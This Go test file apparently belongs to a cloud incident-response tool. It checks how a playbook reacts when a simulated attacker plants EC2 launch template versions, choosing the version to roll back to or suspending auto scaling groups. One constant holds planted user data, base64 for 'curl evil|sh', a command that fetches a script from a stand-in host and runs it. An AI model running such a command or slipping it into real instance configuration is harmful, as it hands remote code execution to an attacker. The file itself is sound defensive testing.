package launch_test

import (
	"context"
	"encoding/json"
	"iter"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/autoscaling"
	scaling "github.com/aws/aws-sdk-go-v2/service/autoscaling/types"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	"github.com/aws/aws-sdk-go-v2/service/ec2/types"

	"github.com/ripostehq/riposte/event"
	"github.com/ripostehq/riposte/playbook"
	"github.com/ripostehq/riposte/playbooks/launch"
)

const evil = "Y3VybCBldmlsfHNo" // curl evil|sh

// plant makes a version of the golden image with the attacker's own user data.
func (a attacker) plant(c *ec2.Client) {
	a.t.Helper()
	a.must(c.CreateLaunchTemplateVersion(a.t.Context(), &ec2.CreateLaunchTemplateVersionInput{
		LaunchTemplateName: aws.String("sound"),
		LaunchTemplateData: &types.RequestLaunchTemplateData{ImageId: aws.String("ami-0bbbbbbbbbbbbbbbb"), UserData: aws.String(evil)},
	}))
}

// someone is another hand than the operator's.
func (a attacker) someone() *ec2.Client {
	return ec2.NewFromConfig(a.w.Config(ireland, aws.Credentials{AccessKeyID: "AKIABUILDER000000001", SecretAccessKey: "builder"}))
}

func (a attacker) wait(d time.Duration) {
	a.t.Helper()
	a.must(nil, a.w.AdvanceTo(a.w.Now().Add(d)))
}

// following is a group that launches by the default of a template.
func following(group, template string) *autoscaling.UpdateAutoScalingGroupInput {
	return &autoscaling.UpdateAutoScalingGroupInput{
		AutoScalingGroupName: &group, LaunchTemplate: &scaling.LaunchTemplateSpecification{LaunchTemplateName: &template},
	}
}

// template is a template's id.
func (a attacker) template(name string) string {
	a.t.Helper()
	out, err := a.ec2.DescribeLaunchTemplates(a.t.Context(), &ec2.DescribeLaunchTemplatesInput{LaunchTemplateNames: []string{name}})
	a.must(out, err)
	return *out.LaunchTemplates[0].LaunchTemplateId
}

// moved makes a version the default, and is what comes of its record, after all that the records before it have shown: the
// version to go back to, and the steps.
func (a attacker) moved(version string) (back int64, kinds []string) {
	a.t.Helper()
	book, err := launch.UnapprovedTemplate().Default()
	a.must(nil, err)
	var seen []playbook.Observation
	for e := range a.arrived() {
		seen = append(seen, book.Observes(e)...)
	}
	a.must(a.ec2.ModifyLaunchTemplate(a.t.Context(), &ec2.ModifyLaunchTemplateInput{LaunchTemplateName: aws.String("sound"), DefaultVersion: aws.String(version)}))
	a.wait(6 * time.Second)
	for e := range a.arrived() {
		if e.Name != "ModifyLaunchTemplate" {
			continue
		}
		leads, err := book.Suspects(e)
		a.must(nil, err)
		in := playbook.In{AWS: as(a.w, "AKIAOPERATOR00000001", "operator").Reads(), Now: a.w.Now(), History: playbook.History{Recall: recalls(append(seen, book.Observes(e)...))}}
		found, err := book.Check(a.t.Context(), in, "c_1", leads[0])
		if err != nil || len(found) != 1 {
			a.t.Fatalf("%d proposals, %v", len(found), err)
		}
		var facts struct{ Back int64 }
		a.must(nil, json.Unmarshal(found[0].Suspect.Facts, &facts))
		return facts.Back, found[0].Plan.Kinds()
	}
	a.t.Fatal("no record")
	return 0, nil
}

// arrived are the events of the records that have come, each once.
func (a attacker) arrived() iter.Seq[event.Event] {
	return func(yield func(event.Event) bool) {
		for _, d := range a.w.Deliveries() {
			contents, err := event.Unwrap(d.Body)
			a.must(nil, err)
			e, err := event.Decode(contents[0].Record)
			a.must(nil, err)
			a.must(nil, a.w.Ack(d.ID))
			if !yield(e) {
				return
			}
		}
	}
}

// recalls recalls the last of what was seen in order.
func recalls(seen []playbook.Observation) playbook.Recall {
	return func(_ context.Context, r event.Resource, of string, before time.Time) (latest *playbook.Observation, _ error) {
		for _, o := range seen {
			if o.Resource == r && o.Of == of && o.Counts(before) {
				latest = &o
			}
		}
		return latest, nil
	}
}

// An approved image may come with the attacker's own user data: what leads back is what was there before, by another hand.
func TestTheWayBackIsNotPlanted(t *testing.T) {
	const moves, asks = "ec2.default-version", "autoscaling.suspend"
	for _, c := range []struct {
		name  string
		other bool          // another hand than who moves the default makes the versions
		ago   time.Duration // between the good one and the bad one
		back  int64
		first string // of the steps
	}{
		{"by who acts", false, 0, 1, moves},
		{"by who acts, long ago", false, 72 * time.Hour, 1, moves},
		{"by an accomplice, who makes the bad version too", true, 0, 1, asks},
		{"a deployment of last week, or an accomplice's patience", true, 7 * 24 * time.Hour, 2, asks},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := attack(t)
			maker := a.ec2
			if c.other {
				maker = a.someone()
			}
			a.plant(maker)
			a.wait(c.ago)
			a.bad(maker)
			a.wait(time.Minute)
			if back, kinds := a.moved("3"); back != c.back || kinds[0] != c.first || len(kinds) > 2 {
				t.Errorf("back to %d, want %d: %v", back, c.back, kinds)
			}
		})
	}
}

// What a record has shown to be the default leads back, whatever has been planted since, by whichever hand; what the caller
// made the default on the way does not count.
func TestTheWayBackIsTheDefaultThatWasSeen(t *testing.T) {
	for _, c := range []struct {
		name   string
		plants func(a attacker)
		bad    string
		back   int64
		first  string // of the steps
	}{
		{"the deployment's", func(attacker) {}, "3", 2, "ec2.default-version"},
		{"an accomplice plants a version above it", func(a attacker) { a.plant(a.someone()) }, "4", 2, "ec2.default-version"},
		{"the caller makes a planted version the default first", func(a attacker) {
			a.plant(a.someone())
			a.deploys(a.ec2, "3")
		}, "4", 2, "ec2.default-version"},
		{"the caller made the default that was seen", func(a attacker) { a.deploys(a.ec2, "1"); a.deploys(a.ec2, "2") }, "3", 2, "ec2.default-version"},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := attack(t)
			a.plant(a.someone()) // this one is a deployment: its hand makes it the default
			a.deploys(a.someone(), "2")
			a.wait(48 * time.Hour)
			c.plants(a)
			a.wait(48 * time.Hour)
			a.bad(a.ec2)
			a.wait(time.Minute)
			if back, kinds := a.moved(c.bad); back != c.back || kinds[0] != c.first {
				t.Errorf("back to %d, want %d: %v", back, c.back, kinds)
			}
		})
	}
}

// bad makes a version of a public image.
func (a attacker) bad(c *ec2.Client) {
	a.t.Helper()
	a.must(c.CreateLaunchTemplateVersion(a.t.Context(), &ec2.CreateLaunchTemplateVersionInput{
		LaunchTemplateName: aws.String("sound"), LaunchTemplateData: &types.RequestLaunchTemplateData{ImageId: aws.String("ami-0aaaaaaaaaaaaaaaa")},
	}))
}

// deploys makes a version the default.
func (a attacker) deploys(c *ec2.Client, version string) {
	a.t.Helper()
	a.must(c.ModifyLaunchTemplate(a.t.Context(), &ec2.ModifyLaunchTemplateInput{LaunchTemplateName: aws.String("sound"), DefaultVersion: aws.String(version)}))
	a.wait(2 * time.Second)
}

// Where nothing but the attacker's own versions are left, the groups are stopped.
func TestWhereAllVersionsArePlantedTheGroupsAreStopped(t *testing.T) {
	a := attack(t)
	a.must(a.ec2.CreateLaunchTemplate(t.Context(), &ec2.CreateLaunchTemplateInput{
		LaunchTemplateName: aws.String("fresh"), LaunchTemplateData: &types.RequestLaunchTemplateData{ImageId: aws.String("ami-0bbbbbbbbbbbbbbbb")},
	}))
	a.must(a.scaling.UpdateAutoScalingGroup(t.Context(), following("steady", "fresh")))
	a.version("fresh", "ami-0aaaaaaaaaaaaaaaa")
	a.wait(time.Minute)
	a.must(a.ec2.ModifyLaunchTemplate(t.Context(), &ec2.ModifyLaunchTemplateInput{LaunchTemplateName: aws.String("fresh"), DefaultVersion: aws.String("2")}))
	plans := a.seen(6 * time.Second)
	expect(t, plans[len(plans)-1:], "ModifyLaunchTemplate launch-template "+a.template("fresh")+": launch template fresh version 2 "+public+"\n  autoscaling.suspend steady")
}
